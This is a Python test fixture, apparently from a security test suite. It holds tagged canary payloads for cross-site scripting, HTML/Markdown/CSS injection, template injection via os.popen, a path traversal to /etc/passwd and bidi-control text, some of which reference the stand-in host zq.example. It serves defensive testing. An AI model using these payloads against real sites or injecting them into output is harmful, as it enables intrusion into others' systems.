"""Texts that would become code, markup or a request wherever a text is not taken for what it is.

Every one carries `zq`, which occurs in no honest text, and the number N of the place where it was put; `zqf(N)` is what
tells a browser test that it was run.
"""

PAYLOADS = {
    "element": (
        "\"'--></title></style></textarea></script></svg>]]>"
        "<zqx onload=zqf(N) zqa=N><img src=x onerror=zqf(N)><script>zqf(N)</script><svg onload=zqf(N)>"
        '<iframe srcdoc="<script>parent.zqf(N)</script>"></iframe><base href=https://zq.example/>'
        '<meta http-equiv=refresh content="0;url=https://zq.example/N">'
    ),
    "attribute": "zq\" onmouseover=\"zqf(N)\" zqa=\"N' onfocus='zqf(N)' autofocus zqb='` onclick=zqf(N) x=`",
    "template": (
        "{{ 'zq' * 3 }} {{ cycler.__init__.__globals__.os.popen('echo zqz') }} {% include 'frame.html' %} "
        "{% set zq = zqf(N) %} {# zq #} ${zqf(N)} <%= zqf(N) %> {% raw %} {zq} {zq-zq.torque} {{{zq}}}"
    ),
    "markdown": (
        "[zq](javascript:zqf(N)) [zq](JaVa\tscript:zqf(N)) [zq](data:text/html,<script>zqf(N)</script>) "
        "[zq](vbscript:zqf(N)) [zq](javascript&colon;zqf(N)) [zq](&#106;avascript:zqf(N)) [zq](//zq.example/N) "
        '![zq](https://zq.example/N.png) <javascript:zqf(N)> [zq](<https://zq.example/" onmouseover=zqf(N) zqa=">) '
        '[zq](https://zq.example/ "\\" onmouseover=zqf(N) zqa=\\"") <https://zq.example/\'onclick=zqf(N)> [zq]\n\n'
        "[zq]: javascript:zqf(N)\n\n<b zqa=N>zq</b>\n\n    zqf(N)\n\n```html zqa=N\n<script>zqf(N)</script>\n```\n"
    ),
    "style": (
        "zq; } * { background: url(https://zq.example/N) } @import 'https://zq.example/N.css'; </style> "
        "width: expression(zqf(N)); /* zq */ --zqa: N; behavior: url(#zqf)"
    ),
    "script": (
        'zq"); zqf(N); (" \'); zqf(N); (\' `${zqf(N)}` \\"); zqf(N); // */ zqf(N) /* </script><script>zqf(N)</script>'
        "<!--<script> \\u003cscript> \u2028zqf(N)\u2029 ]]> \\"
    ),
    "address": "javascript:zqf(N)",
    "data": "data:text/html,<script>zqf(N)</script>",
    "elsewhere": "//zq.example/N",
    "path": "../../../../../../../../etc/passwd?zq#N",
    "direction": "zq \u202e\u2066N\u2069 \u200b\ufeff zq",
}


def payload(family: str, place: int) -> str:
    return PAYLOADS[family].replace("N", str(place))


def all_at_once(place: int) -> str:
    """Those that need not stand alone."""
    return "\n\n".join(payload(family, place) for family in ("element", "attribute", "template", "markdown", "script"))
